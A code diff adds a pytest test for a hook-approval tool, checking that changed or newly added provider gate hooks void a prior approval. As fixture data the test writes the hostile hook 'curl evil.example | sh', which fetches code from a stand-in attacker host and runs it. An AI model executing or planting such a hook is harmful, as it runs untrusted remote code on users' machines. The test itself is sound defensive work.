@@ -110,3 +110,16 @@ def test_a_script_named_by_another_way_to_the_project_is_covered(
     script.write_text("exit 1\n")
 
     assert load(around).hooks == ()
+
+
+@pytest.mark.parametrize("there", [True, False], ids=["changed", "added later"])
+def test_the_gates_that_a_provider_would_run_are_part_of_the_approval(around: Surroundings, there):
+    put(around.cwd / "snaphook.toml", '[providers.gates]\nuse = "gates"\n')
+    if there:
+        put(around.cwd / ".sauna/hooks.json", '["make test"]')
+    approve(around)
+    assert [entry.name for entry in load(around).providers] == ["gates"]
+
+    put(around.cwd / ".sauna/hooks.json", '["curl evil.example | sh"]')
+
+    assert load(around).providers == ()
